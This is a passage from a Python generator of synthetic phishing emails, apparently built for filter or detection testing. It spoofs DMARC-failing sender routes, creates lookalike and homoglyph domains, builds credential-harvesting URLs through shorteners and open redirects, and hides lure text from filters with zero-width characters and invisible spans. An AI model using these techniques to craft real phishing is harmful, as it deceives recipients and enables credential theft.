                "X-Mailer",
                r.choice(
                    [
                        "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
                        "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
                        "Microsoft Outlook 16.0",
                        "Foxmail 7.2.25.228",
                        "Gammadyne Mailer",
                        "Atomic Mail Sender 9.x",
                        "Smtp Mailer",
                    ]
                ),
            )
        ]
    return rt


def r_spoof(r: random.Random, from_dom: str, policy: str = "reject") -> Route:
    """Mail with a brand's domain in From: but sent from elsewhere; DMARC fails."""
    mode = r.randrange(3)
    ip = doc_ip(r)
    if mode == 0:
        env = f"{rs(r, 7, ALPHA)}@{from_dom}"
        spf = r.choice(["fail", "softfail"])
        signers: list[tuple[str, str, str]] = []
    elif mode == 1:
        td = throwaway(r)
        env = f"{rs(r, 6, ALPHA)}@{td}"
        spf = "pass"
        signers = [(td, "default", "pass")] if r.random() < 0.5 else []
    else:
        env = f"bounce-{digits(r, 6)}@{r.choice(['mailer.', 'mta.', 'smtp.'])}{throwaway(r)}"
        spf = r.choice(["pass", "neutral", "none"])
        signers = [(from_dom, "s1", "fail")] if r.random() < 0.5 else []
    helo = r.choice(
        [
            f"mta{r.randint(1, 40)}.{env.split('@')[1]}",
            f"WIN-{rs(r, 11, UHEX)}",
            "localhost.localdomain",
            f"[{ip}]",
            f"mail.{from_dom}",
        ]
    )
    rt = Route(
        env, helo, ip, from_dom, signers, spf, "fail", policy, rdns="unknown" if r.random() < 0.4 else ""
    )
    rt.tls = r.random() < 0.6
    return rt


def r_freemail(r: random.Random, provider: str, sender: str) -> Route:
    dom, dkd, sel = next(p for p in FREEMAIL if p[0] == provider)
    if provider == "gmail.com":
        n = r.randint(170, 235)
        rt = Route(
            sender,
            f"mail-{r.choice(['yw1', 'qk1', 'pl1', 'oi1', 'ej1', 'lj1'])}-f{n}.google.com",
            doc_ip(r),
            dom,
            [(dkd, sel, "pass")],
            "pass",
            "pass",
            "none",
        )
        rt.hops = [
            f"by 2002:a05:{rs(r, 4, HEX)}:{rs(r, 4, HEX)}:b0:{rs(r, 3, HEX)}:{rs(r, 4, HEX)} with SMTP id {rs(r, 12, LOWER)}csp{digits(r, 7)};\n\t{{when}}"
        ]
    elif provider in ("outlook.com", "hotmail.com"):
        helo = f"{r.choice(['EUR05', 'EUR02', 'APC01', 'NAM10'])}-{r.choice(['AM6', 'DB8', 'VI1', 'SG2', 'BN7'])}-obe.outbound.protection.outlook.com"
        rt = Route(sender, helo, doc_ip(r), dom, [(dkd, sel, "pass")], "pass", "pass", "none")
        rt.hops = [_m365_hop(r)]
    elif provider in ("yahoo.com", "aol.com"):
        rt = Route(
            sender,
            f"sonic{r.randint(300, 320)}-{r.randint(1, 50)}.consmr.mail.{r.choice(['ne1', 'bf2', 'gq1', 'ir2'])}.yahoo.com",
            doc_ip(r),
            dom,
            [(dkd, sel, "pass")],
            "pass",
            "pass",
            "reject",
        )
        rt.hops = [
            f"from {r.randint(1, 9)}.{rs(r, 4, LOWER)} (EHLO [{doc_ip(r)}]) by smtp{r.randint(400, 440)}.mail.{r.choice(['ne1', 'bf2'])}.yahoo.com (Yahoo Inc. Hermes SMTP Server) with ESMTPA ID {rs(r, 32, HEX)};\n\t{{when}}"
        ]
    elif provider == "icloud.com":
        rt = Route(
            sender,
            f"{r.choice(['st43p00im', 'ms11p00im', 'mr85p00im'])}-{rs(r, 8, LOWER)}.me.com",
            doc_ip(r),
            dom,
            [(dkd, sel, "pass")],
            "pass",
            "pass",
            "quarantine",
        )
    elif provider == "mail.ru":
        rt = Route(
            sender,
            f"smtp{r.randint(20, 60)}.i.mail.ru",
            doc_ip(r),
            dom,
            [(dkd, sel, "pass")],
            "pass",
            "pass",
            "reject",
        )
    elif provider == "gmx.com":
        rt = Route(sender, "mout.gmx.com", doc_ip(r), dom, [(dkd, sel, "pass")], "pass", "pass", "quarantine")
    else:
        rt = Route(
            sender,
            f"mail-{r.randint(1000, 9999)}.{dom}",
            doc_ip(r),
            dom,
            [(dkd, sel, "pass")],
            "pass",
            "pass",
            "quarantine",
        )
    return rt


def r_esp(r: random.Random, esp: str, from_dom: str, aligned: bool = False, policy: str = "none") -> Route:
    """An abused ESP account (compromised or trial)."""
    if esp == "sendgrid":
        env = f"bounces+{r.randint(1000000, 49999999)}-{rs(r, 4, HEX)}-{rs(r, 8, ALPHA)}={DOM}@em{r.randint(1000, 9999)}.{from_dom if aligned else throwaway(r)}"
        rt = Route(
            env,
            f"{rs(r, 8, ALPHA)}.outbound-mail.sendgrid.net",
            doc_ip(r),
            from_dom,
            [("sendgrid.net", "smtpapi", "pass")] + ([(from_dom, "s1", "pass")] if aligned else []),
        )
        rt.extra = [
            ("X-SG-EID", f"u001.{rs(r, 110, URLSAFE)}"),
            ("X-Entity-ID", f"u001.{rs(r, 22, URLSAFE)}=="),
        ]
    elif esp == "mailgun":
        env = f"bounce+{rs(r, 6, HEX)}.{rs(r, 6, HEX)}-{rs(r, 8, ALPHA)}={DOM}@mg.{from_dom if aligned else throwaway(r)}"
        rt = Route(
            env,
            f"m{r.randint(40, 240)}-{r.randint(1, 250)}.mailgun.net",
            doc_ip(r),
            from_dom,
            [("mailgun.org", "mg", "pass")] + ([(f"mg.{from_dom}", "pic", "pass")] if aligned else []),
        )
        rt.extra = [("X-Mailgun-Sid", rs(r, 60, URLSAFE))]
    elif esp == "ses":
        env = f"0102019{rs(r, 9, HEX)}-{rs(r, 8, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 12, HEX)}-000000@{r.choice(['eu-west-1.', 'us-west-2.', ''])}amazonses.com"
        rt = Route(
            env,
            f"a{r.randint(1, 250)}-{r.randint(1, 250)}.smtp-out.eu-west-1.amazonses.com",
            doc_ip(r),
            from_dom,
            [("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")]
            + ([(from_dom, rs(r, 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass")] if aligned else []),
        )
        rt.extra = [("Feedback-ID", f"::1.eu-west-1.{rs(r, 43, URLSAFE)}=:AmazonSES")]
    else:
        env = f"{rs(r, 20, LOWER)}@{r.choice(['a', 'b', 'c'])}{r.randint(1, 9)}.sender-sib.com"
        rt = Route(
            env,
            f"{r.choice(['ft', 'tb', 'fk'])}{r.randint(1, 99)}.mta.brevo.com",
            doc_ip(r),
            from_dom,
            [("sendinblue.com", "mail", "pass")] + ([(from_dom, "brevo1", "pass")] if aligned else []),
        )
        rt.extra = [
            ("X-Mailer", "Brevo"),
            (
                "Feedback-ID",
                f"{doc_ip(r)}:{r.randint(1000000, 9999999)}_-1:{r.randint(1000000, 9999999)}:Sendinblue",
            ),
        ]
    rt.spf = "pass"
    rt.dmarc = "pass" if aligned else ("fail" if policy != "" else "none")
    rt.policy = policy or "none"
    if not aligned and policy == "":
        rt.dmarc = "none"
    return rt


def r_service(r: random.Random, service: str) -> Route:
    """A genuine service's relay carrying attacker-written content."""
    table = {
        "google": ("google.com", "forms-receipts-noreply@google.com", "20230601", "reject"),
        "gdrive": ("google.com", "drive-shares-dm-noreply@google.com", "20230601", "reject"),
        "microsoft": ("microsoft.com", "noreply@microsoft.com", "selector2", "reject"),
        "dropbox": ("dropbox.com", f"bounces+{rs(r, 12, LOWER)}@dropbox.com", "emsd1", "reject"),
        "docusign": ("docusign.net", f"bounce-{rs(r, 20, LOWER)}@docusign.net", "s1", "reject"),
        "paypal": ("paypal.com", "service@paypal.com", "pp-dkim1", "reject"),
        "intuit": ("intuit.com", "quickbooks@notification.intuit.com", "s2", "reject"),
        "adobe": ("adobesign.com", "adobesign@adobesign.com", "s1", "quarantine"),
        "wetransfer": ("wetransfer.com", "noreply@wetransfer.com", "k1", "reject"),
        "canva": ("canva.com", f"{rs(r, 10, LOWER)}@engage.canva.com", "s1", "reject"),
        "notion": ("mail.notion.so", "notify@mail.notion.so", "s1", "none"),
    }
    dom, env, sel, pol = table[service]
    rt = Route(
        env,
        f"{rs(r, 6, LOWER)}-{r.randint(10, 99)}.{dom}",
        doc_ip(r),
        dom,
        [(dom, sel, "pass")],
        "pass",
        "pass",
        pol,
    )
    return rt


def recipients(r: random.Random, p: Person, bcc_p: float = 0.3, sender: str = "") -> tuple[str, str]:
    """(envelope recipient, To header)."""
    x = r.random()
    if x < bcc_p:
        return p.email, r.choice(
            [
                "undisclosed-recipients:;",
                sender or f"{rs(r, 6, ALPHA)}@{throwaway(r)}",
                f"Recipients <{sender}>" if sender else "undisclosed-recipients:;",
            ]
        )
    if x < bcc_p + 0.15:
        return p.email, p.email
    return p.email, addr(p.name, p.email)


def std(
    frm: str,
    to: str,
    subject: str,
    dt: datetime,
    msgid: str,
    *extra: Header,
    subj_cs: str = "utf-8",
    subj_enc: str = "B",
) -> list[Header]:
    return [
        ("From", frm),
        ("To", to),
        ("Subject", ew(subject, subj_cs, subj_enc)),
        ("Date", hdate(dt)),
        ("Message-ID", msgid),
        *extra,
    ]


def mid(r: random.Random, dom: str, style: str = "") -> str:
    if not style and dom == "gmail.com":
        style = "gmail"
    elif not style and dom in ("outlook.com", "hotmail.com"):
        style = "outlook"
    elif not style and dom in ("icloud.com", "mail.ru", "gmx.com", "proton.me", "zoho.com"):
        style = "uuid"
    elif not style and dom in ("yahoo.com", "aol.com"):
        return f"<{digits(r, 9)}.{digits(r, 7)}.{digits(r, 13)}@mail.yahoo.com>"
    style = style or r.choice(["plain", "outlook", "gmail", "phpmailer", "uuid", "plain"])
    if style == "gmail" and dom not in ("gmail.com", "google.com"):
        style = "plain"
    if style == "outlook":
        return f"<{rs(r, 4, UHEX)}P{r.randint(190, 195)}MB{digits(r, 4)}{rs(r, 20, UHEX)}@{rs(r, 4, UHEX)}P{r.randint(190, 195)}MB{digits(r, 4)}.EURP{r.randint(190, 195)}.PROD.OUTLOOK.COM>"
    if style == "gmail":
        return f"<CA{rs(r, 3, ALNUM)}{rs(r, 40, URLSAFE)}@mail.gmail.com>"
    if style == "phpmailer":
        return f"<{rs(r, 43, ALNUM)}@{dom}>"
    if style == "uuid":
        return f"<{rs(r, 8, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 12, HEX)}@{dom}>"
    return f"<{digits(r, 14)}.{rs(r, 10, LOWER)}@{dom}>"


# --------------------------------------------------------------------------------------------
# URLs as the kits write them


SHORTENERS = [
    "bit.ly",
    "tinyurl.com",
    "t.ly",
    "rb.gy",
    "cutt.ly",
    "is.gd",
    "s.id",
    "shorturl.at",
    "t.co",
    "ow.ly",
    "qrco.de",
    "rebrand.ly",
]
HOSTED = [
    "pages.dev",
    "workers.dev",
    "web.app",
    "firebaseapp.com",
    "r2.dev",
    "netlify.app",
    "vercel.app",
    "github.io",
    "glitch.me",
    "onrender.com",
    "webflow.io",
    "wixsite.com",
    "weebly.com",
    "square.site",
    "blogspot.com",
    "azurewebsites.net",
    "herokuapp.com",
    "replit.app",
    "framer.website",
    "godaddysites.com",
]
KIT_PATHS = [
    "/wp-content/plugins/{a}/",
    "/wp-includes/js/{a}/",
    "/.well-known/pki-validation/{a}/",
    "/cgi-bin/{a}/",
    "/{a}/login.php",
    "/{a}/index.html",
    "/{a}/",
    "/office365/{a}/",
    "/admin/{a}/auth/",
    "/images/{a}/verify.php",
    "/css/{a}/",
]


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def short(r: random.Random) -> str:
    host = r.choice(SHORTENERS)
    return f"https://{host}/{rs(r, r.randint(6, 8), ALNUM)}"


def kit_url(r: random.Random, host: str, rcpt: str = "", scheme: str = "https") -> str:
    path = r.choice(KIT_PATHS).format(
        a=r.choice(
            [
                rs(r, 8, LOWER),
                "secure",
                "owa",
                "login",
                "auth",
                "verify",
                "docs",
                "dhl",
                "new",
                "re",
                "ms",
                rs(r, 3, ALPHA),
            ]
        )
    )
    url = f"{scheme}://{host}{path}"
    return with_email(r, url, rcpt) if rcpt else url


def with_email(r: random.Random, url: str, rcpt: str) -> str:
    k = r.randrange(6)
    if k == 0:
        return f"{url}#{b64(rcpt)}"
    if k == 1:
        return f"{url}?email={rcpt}"
    if k == 2:
        return f"{url}#{rcpt}"
    if k == 3:
        return f"{url}?{r.choice(['u', 'e', 'id', 'usr', 'login_hint'])}={urllib.parse.quote(b64(rcpt))}"
    if k == 4:
        return f"{url}?{rs(r, 4, LOWER)}={rs(r, 16, ALNUM)}&user={urllib.parse.quote(rcpt)}"
    return f"{url}#{rs(r, 6, ALNUM)}{b64(rcpt)}{rs(r, 4, ALNUM)}"


def hosted(r: random.Random, brand: str = "", rcpt: str = "") -> str:
    kind = r.randrange(12)
    stem = (brand.lower().replace(" ", "").replace("+", "") + "-" if brand and r.random() < 0.5 else "") + rs(
        r, r.randint(5, 9), LOWER
    )
    if kind == 0:
        url = f"https://docs.google.com/forms/d/e/1FAIpQL{rs(r, 49, URLSAFE)}/viewform"
    elif kind == 1:
        url = f"https://forms.office.com/r/{rs(r, 10, ALNUM)}"
    elif kind == 2:
        url = f"https://www.canva.com/design/DAG{rs(r, 8, URLSAFE)}/{rs(r, 22, URLSAFE)}/view"
    elif kind == 3:
        url = f"https://{rs(r, 6, LOWER)}-{rs(r, 4, LOWER)}-{rs(r, 3, LOWER)}.notion.site/{rs(r, 4, ALPHA).capitalize()}-{rs(r, 32, HEX)}"
    elif kind == 4:
        cid = "bafybei" + rs(r, 52, "abcdefghijklmnopqrstuvwxyz234567")
        url = r.choice(
            [
                f"https://ipfs.io/ipfs/{cid}",
                f"https://{cid}.ipfs.dweb.link/",
                f"https://gateway.pinata.cloud/ipfs/{cid}",
                f"https://{cid}.ipfs.w3s.link/",
            ]
        ) + r.choice(["", f"?filename={rs(r, 6, LOWER)}.html", f"/{rs(r, 5, LOWER)}.html"])
    elif kind == 5:
        url = f"https://storage.googleapis.com/{stem}/{rs(r, 6, LOWER)}.html"
    elif kind == 6:
        url = f"https://{stem}.blob.core.windows.net/{rs(r, 5, LOWER)}/index.html"
    elif kind == 7:
        url = f"https://sites.google.com/view/{stem}/home"
    elif kind == 8:
        url = f"https://pub-{rs(r, 32, HEX)}.r2.dev/{rs(r, 8, LOWER)}.html"
    else:
        host = r.choice(HOSTED)
        url = f"https://{stem}.{host}/" + r.choice(
            ["", "auth", "login", f"{rs(r, 6, LOWER)}.html", "?v=" + rs(r, 8, ALNUM)]
        )
    return with_email(r, url, rcpt) if rcpt and r.random() < 0.6 else url


def redirect(r: random.Random, target: str) -> str:
    q = urllib.parse.quote(target, safe="")
    k = r.randrange(9)
    if k == 0:
        return f"https://www.google.com/url?q={q}&sa=D&sntz=1&usg=AOvVaw{rs(r, 22, URLSAFE)}"
    if k == 1:
        return f"https://www.bing.com/ck/a?!&&p={rs(r, 40, HEX)}JmltdHM9{rs(r, 20, ALNUM)}&ptn=3&u=a1{b64(target).rstrip('=')}&ntb=1"
    if k == 2:
        return f"https://l.facebook.com/l.php?u={q}&h=AT{rs(r, 30, URLSAFE)}"
    if k == 3:
        return f"https://www.youtube.com/redirect?event=video_description&redir_token=QUFFLUhqb{rs(r, 30, URLSAFE)}&q={q}"
    if k == 4:
        return f"https://adservice.google.com/ddm/clk/{digits(r, 9)};{digits(r, 9)};{rs(r, 1, 'abcdefgh')}?{target}"
    if k == 5:
        org = r.choice(COMPROMISED)
        return f"https://www.{org[1]}/{r.choice(['redirect.php?url=', 'out.php?link=', 'go.php?to=', 'index.php?option=com_redirect&url='])}{q}"
    if k == 6:
        return f"https://linkprotect.cudasvc.com/url?a={q}&c=E,1,{rs(r, 60, URLSAFE)}&typo=1"
    if k == 7:
        return f"https://{rs(r, 6, LOWER)}.r.us-east-1.awstrack.me/L0/{q}/1/0100019{rs(r, 9, HEX)}-{rs(r, 8, HEX)}-000000/{rs(r, 27, URLSAFE)}=4{r.randint(10, 99)}"
    return f"https://click.{r.choice(['mlsend', 'pstmrk', 'mailjet'])}.com/{rs(r, 12, ALNUM)}/{b64(target).rstrip('=')}"


def ip_url(r: random.Random, path: str = "") -> str:
    ip = doc_ip(r)
    fmt = r.randrange(4)
    if fmt == 1:
        a, b, c, d = (int(x) for x in ip.split("."))
        ip = str((a << 24) + (b << 16) + (c << 8) + d)
    elif fmt == 2:
        ip = f"{ip}:{r.choice([8080, 8443, 2096, 81])}"
    return f"http://{ip}/{path or rs(r, 6, LOWER) + '/'}"


def at_trick(r: random.Random, shown: str, real: str) -> str:
    return f"https://{shown}@{real}/{rs(r, 8, LOWER)}"


HOMO = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "x": "\u0445",
    "i": "\u0456",
    "y": "\u0443",
    "s": "\u0455",
}


def homoglyph(r: random.Random, s: str, n: int = 1) -> str:
    idx = [i for i, c in enumerate(s) if c in HOMO]
    for i in r.sample(idx, min(n, len(idx))):
        s = s[:i] + HOMO[s[i]] + s[i + 1 :]
    return s


def puny(r: random.Random, brand: str, tld: str = "com") -> str:
    """A homoglyph domain in its ACE form."""
    u = homoglyph(r, brand, 1)
    if u == brand:
        u = brand + "\u00e9"
    return f"{u.encode('idna').decode()}.{tld}"


def lookalike(r: random.Random, dom: str) -> str:
    stem, _, tld = dom.partition(".")
    if "gov" in tld or tld.endswith(("ac.uk", "edu")):
        tld = r.choice(["com", "net", "org", "info", "uk.com"])
    k = r.randrange(8)
    if k == 0 and "m" in stem:
        return stem.replace("m", "rn", 1) + "." + tld
    if k == 1:
        return stem + "-" + r.choice(["uk", "gb", "eu", "group", "intl", "hq"]) + "." + tld
    if k == 2:
        i = r.randrange(1, len(stem) - 1)
        return stem[:i] + "-" + stem[i:] + "." + tld
    if k == 3:
        return (
            stem
            + r.choice(["-support", "-secure", "-verify", "-billing", "-online", "-portal", "-account"])
            + "."
            + r.choice(["com", "net", "co", tld])
        )
    if k == 4 and "l" in stem:
        return stem.replace("l", "1", 1) + "." + tld
    if k == 5:
        i = r.randrange(1, len(stem) - 1)
        return stem[:i] + stem[i] + stem[i:] + "." + tld
    if k == 6:
        return (
            stem
            + "."
            + r.choice(["cam", "co.com", "us.com", "com.de", "net.ru", "com-" + rs(r, 3, ALPHA) + ".top"])
        )
    i = r.randrange(1, len(stem) - 1)
    return stem[:i] + stem[i + 1] + stem[i] + stem[i + 2 :] + "." + tld


def brand_sub(r: random.Random, brand: str) -> str:
    """Brand in a subdomain of an unrelated host."""
    b = brand.lower().replace(" ", "")
    host = r.choice([throwaway(r), r.choice(COMPROMISED)[1], f"{rs(r, 6, LOWER)}.{r.choice(HOSTED)}"])
    return (
        f"{b}.{r.choice(['com', 'login', 'secure', 'account', 'verify'])}-{rs(r, 4, LOWER)}.{host}"
        if r.random() < 0.5
        else f"{b}.com.{host}"
    )


def landing(r: random.Random, brand: str, rcpt: str) -> str:
    """Where the credential page lives: any of the usual tricks."""
    k = r.randrange(10)
    if k == 0:
        return hosted(r, brand, rcpt)
    if k == 1:
        return kit_url(
            r, r.choice(COMPROMISED)[1] if r.random() < 0.5 else "www." + r.choice(COMPROMISED)[1], rcpt
        )
    if k == 2:
        return kit_url(r, throwaway(r), rcpt)
    if k == 3:
        return kit_url(r, brand_sub(r, brand), rcpt)
    if k == 4:
        return ip_url(r, f"{rs(r, 5, LOWER)}/index.php?{rcpt and 'e=' + rcpt}")
    if k == 5:
        return short(r)
    if k == 6:
        return redirect(r, kit_url(r, throwaway(r), rcpt))
    if k == 7:
        return at_trick(
            r,
            r.choice(
                [
                    "login.microsoftonline.com",
                    "account.live.com",
                    "secure.paypal.com",
                    "accounts.google.com",
                    "www.dropbox.com",
                ]
            ),
            r.choice([doc_ip(r), throwaway(r)]),
        )
    if k == 8:
        return kit_url(r, puny(r, brand.lower().replace(" ", "")[:12] or "office"), rcpt)
    return hosted(r, brand, rcpt)


# --------------------------------------------------------------------------------------------
# obfuscation of visible HTML text

ZW = ["\u200b", "\u200c", "\u200d", "\ufeff", "&#8203;", "&zwnj;", "\u2060"]


def obf(r: random.Random, s: str, mode: str) -> str:
    """s is already HTML-escaped text without tags."""
    if mode == "zw":
        out = []
        for w in s.split(" "):
            if len(w) > 4 and r.random() < 0.5 and "&" not in w:
                k = r.randrange(1, len(w) - 1)
                w = w[:k] + r.choice(ZW) + w[k:]
            out.append(w)
        return " ".join(out)
    if mode == "homo":
        return " ".join(
            homoglyph(r, w, 1) if len(w) > 3 and "&" not in w and r.random() < 0.4 else w
            for w in s.split(" ")
        )
    if mode == "hidden":
        out = []
        for w in s.split(" "):
            if len(w) > 5 and "&" not in w and r.random() < 0.35:
                k = r.randrange(2, len(w) - 2)
                junk = rs(r, r.randint(2, 6), ALPHA)
                span = r.choice(
                    [
                        f'<span style="font-size:0px">{junk}</span>',
                        f'<span style="display:none">{junk}</span>',
                        f'<font style="color:#ffffff;font-size:1px">{junk}</font>',
                        f'<span style="opacity:0;position:absolute">{junk}</span>',
                    ]
                )
                w = w[:k] + span + w[k:]
            out.append(w)
        return " ".join(out)
    if mode == "split":
        out = []
        for w in s.split(" "):
            if len(w) > 5 and "&" not in w and r.random() < 0.4:
                k = r.randrange(2, len(w) - 2)
                w = r.choice(
                    [
                        f"<span>{w[:k]}</span><span>{w[k:]}</span>",
                        f"{w[:k]}<b></b>{w[k:]}",
                        f"{w[:k]}<!-- {rs(r, 6, ALPHA)} -->{w[k:]}",
                        f"<font>{w[:k]}</font>{w[k:]}",
                    ]
                )
            out.append(w)
        return " ".join(out)
    if mode == "entity":
        return "".join(f"&#{ord(c)};" if c.isalpha() and r.random() < 0.3 else c for c in s)
    return s


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


Block = str | tuple


def text_of(blocks: Sequence[Block], footer: Sequence[str] = ()) -> str:
    out: list[str] = []
    for b in blocks:
        if isinstance(b, str):
            out.append(b)
        elif b[0] == "h":
            out.append(b[1])
        elif b[0] == "btn":
            out.append(f"{b[1]}: {b[2]}")
        elif b[0] == "kv":
            out.append("\n".join(f"{k}: {v}" for k, v in b[1]))
        elif b[0] == "ul":
            out.append("\n".join(f"- {x}" for x in b[1]))
    if footer:
        out.append("\n".join(footer))
    return "\n\n".join(out) + "\n"


def html_of(
    r: random.Random,
    blocks: Sequence[Block],
    brand: str,
    color: str = "#0078d4",
    footer: Sequence[str] = (),
    mode: str = "",
    logo: str = "",
    preheader: str = "",
    lang: str = "en",
) -> str:
    """A lure's HTML; ("btn", label, href[, shown]) draws a button; shown is what the text part prints."""
    o = (lambda s: obf(r, esc(s), mode)) if mode else esc
    rows: list[str] = []
    for b in blocks:
        if isinstance(b, str):
            rows.append(
                f'<p style="margin:0 0 14px 0;font-size:14px;line-height:21px;color:#323130;">{o(b).replace(chr(10), "<br>")}</p>'
            )
        elif b[0] == "h":
            rows.append(
                f'<h2 style="font-size:21px;font-weight:600;margin:0 0 16px 0;color:#201f1e;">{o(b[1])}</h2>'
            )
        elif b[0] == "btn" and len(b) > 3 and r.random() < 0.35:
            rows.append(
                f'<p style="margin:0 0 18px 0;font-size:14px;">{o(b[1])}: <a href="{esc(b[2])}" style="color:{color};">{esc(b[3])}</a></p>'
            )
        elif b[0] == "btn":
            rows.append(
                f'<table cellpadding="0" cellspacing="0" border="0" style="margin:6px 0 22px 0;"><tr><td bgcolor="{color}" style="border-radius:3px;padding:11px 26px;">'
                f'<a href="{esc(b[2])}" style="color:#ffffff;text-decoration:none;font-size:14px;font-weight:600;" target="_blank">{o(b[1])}</a></td></tr></table>'
            )
        elif b[0] == "a":
            rows.append(
                f'<p style="margin:0 0 14px 0;font-size:13px;"><a href="{esc(b[2])}" style="color:{color};">{esc(b[1])}</a></p>'
            )
        elif b[0] == "kv":
            trs = "".join(
                f'<tr><td style="padding:3px 18px 3px 0;color:#605e5c;">{o(k)}</td><td style="padding:3px 0;color:#201f1e;"><b>{esc(v)}</b></td></tr>'
                for k, v in b[1]
            )
            rows.append(f'<table style="font-size:13px;margin:0 0 16px 0;">{trs}</table>')
        elif b[0] == "ul":
            rows.append(
                "<ul>"
                + "".join(f'<li style="font-size:14px;margin:0 0 5px 0;">{o(x)}</li>' for x in b[1])
                + "</ul>"
            )
        elif b[0] == "img":
            rows.append(
                f'<p><img src="{esc(b[1])}" alt="{esc(b[2])}" width="{b[3] if len(b) > 3 else 220}" style="display:block;border:0;"></p>'
            )
        elif b[0] == "raw":
            rows.append(b[1])
    foot = "".join(f'<p style="margin:0 0 6px 0;font-size:11px;color:#8a8886;">{esc(f)}</p>' for f in footer)
    head = (
        f'<img src="{esc(logo)}" alt="{esc(brand)}" height="28" style="border:0;">'
        if logo
        else f'<span style="font-size:19px;font-weight:700;color:{color};font-family:Segoe UI,Arial,sans-serif;">{o(brand)}</span>'
    )
    pre = (
        f'<div style="display:none;max-height:0;overflow:hidden;">{esc(preheader)}</div>' if preheader else ""
    )
    return (
        f'<!DOCTYPE html>\n<html lang="{lang}"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        f'<meta name="viewport" content="width=device-width"><title>{esc(brand)}</title></head>\n'
        f'<body style="margin:0;padding:0;background:#f3f2f1;font-family:Segoe UI,Helvetica,Arial,sans-serif;">{pre}\n'
        '<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f3f2f1"><tr><td align="center" style="padding:20px 10px;">\n'
        '<table width="580" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:580px;">\n'
        f'<tr><td style="padding:22px 30px 6px 30px;border-top:4px solid {color};">{head}</td></tr>\n'
        '<tr><td style="padding:14px 30px 6px 30px;">\n' + "\n".join(rows) + "\n</td></tr>\n"
        f'<tr><td style="padding:14px 30px 20px 30px;border-top:1px solid #edebe9;">{foot}</td></tr>\n'
        "</table></td></tr></table>\n</body></html>\n"
    )


def simple_html(text: str, font: str = "Calibri, sans-serif") -> str:
    paras = []
    for para in text.strip("\n").split("\n\n"):
        if para.startswith(">"):
            inner = esc("\n".join(ln.lstrip("> ") for ln in para.split("\n"))).replace("\n", "<br>\n")
            paras.append(
                f'<blockquote style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">{inner}</blockquote>'
            )
        else:
            paras.append(f"<div>{esc(para).replace(chr(10), '<br>' + chr(10))}</div>")
    return (
        f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n<body style="font-family:{font};font-size:11pt;">\n'
        + "\n<div><br></div>\n".join(paras)
        + "\n</body></html>\n"
    )


def fit_charset(cs: str, text: str) -> str:
    """The declared charset, or the next one up if the text does not fit (as mail clients do)."""
    for c in (cs, "windows-1252", "utf-8"):
        try:
            text.encode(c)
            return c
        except UnicodeEncodeError:
            continue
    return "utf-8"


def lure(
    r: random.Random,
    i: int,
    rt: Route,
    rcpt: str,
    to: str,
    dt: datetime,
    frm: str,
    subject: str,
    blocks: Sequence[Block],
    brand: str,
    color: str,
    footer: Sequence[str] = (),
    extra: Sequence[Header] = (),
    attachments: Sequence[Ent] = (),
    mode: str | None = None,
    cs: str = "utf-8",
    lang: str = "en",
    msgid: str = "",
    logo: str = "",
    preheader: str = "",
) -> bytes:
    if mode is None:
        mode = r.choice(["", "", "", "zw", "hidden", "split", "homo", "entity"])
    if cs != "utf-8" and mode in ("zw", "homo"):
        mode = r.choice(["hidden", "split", "entity"])
    htm = html_of(r, blocks, brand, color, footer, mode, logo, preheader, lang).replace(
        "charset=utf-8", f"charset={cs}"
    )
    text = text_of(blocks, footer)
    cs = fit_charset(cs, text + htm + subject)
    htm = htm.replace("charset=iso-8859-1", f"charset={cs}")
    body = body_choice(r, text, htm, i + r.randrange(3), cs)
    if attachments:
        body = multi(r, "mixed", [body, *attachments])
    hs = std(frm, to, subject, dt, msgid or mid(r, rt.from_dom), *extra, subj_cs=cs, subj_enc=r.choice("BQ"))
    return deliver(r, rt, rcpt, dt, hs, body)


def letter(
    r: random.Random,
    rt: Route,
    rcpt: str,
    to: str,
    dt: datetime,
    frm: str,
    subject: str,
    text: str,
    extra: Sequence[Header] = (),
    attachments: Sequence[Ent] = (),
    cs: str = "utf-8",
    msgid: str = "",
    with_html: bool | None = None,
) -> bytes:
    """A hand-typed message (BEC and friends)."""
    with_html = r.random() < 0.5 if with_html is None else with_html
    cs = fit_charset(cs, text + subject)
    cte = r.choice(["quoted-printable", "7bit", "base64", "8bit"])
    try:
        text.encode("ascii")
        if cte == "8bit":
            cte = "7bit"
    except UnicodeEncodeError:
        if cte == "7bit":
            cte = "quoted-printable"
    body = (
        alt(
            r,
            text,
            simple_html(
                text,
                r.choice(
                    [
                        "Calibri, sans-serif",
                        "Arial, sans-serif",
                        "Aptos, sans-serif",
                        "Helvetica, Arial, sans-serif",
                    ]
                ),
            ),
            cs,
            cte,
        )
        if with_html
        else plain(text, cs, cte)
    )
    if attachments:
        body = multi(r, "mixed", [body, *attachments])
    hs = std(frm, to, subject, dt, msgid or mid(r, rt.from_dom), *extra, subj_cs=cs)
    return deliver(r, rt, rcpt, dt, hs, body)


def sender_any(
    r: random.Random, brand_dom: str, local: str = "", stem: str = "", policy: str = "reject"
) -> tuple[Route, str]:
    """Pick one of the usual sender set-ups for a brand lure; returns (route, From address)."""
    k = r.randrange(6)
    if k == 0:
        org = r.choice(COMPROMISED)
        lp = local or r.choice(["info", "office", "admin", "reception", rs(r, 5, ALPHA), "accounts"])
        return r_compromised(r, org, lp), f"{lp}@{org[1]}"
    if k == 1:
        dom = throwaway(r, stem)
        rt = r_throwaway(r, dom, local)
        return rt, rt.envelope
    if k == 2:
        dom = lookalike(r, brand_dom)
        rt = r_throwaway(r, dom, local, dkim=True)
        return rt, rt.envelope
    if k == 3:
        lp = local or r.choice(["no-reply", "security", "alert", "service"])
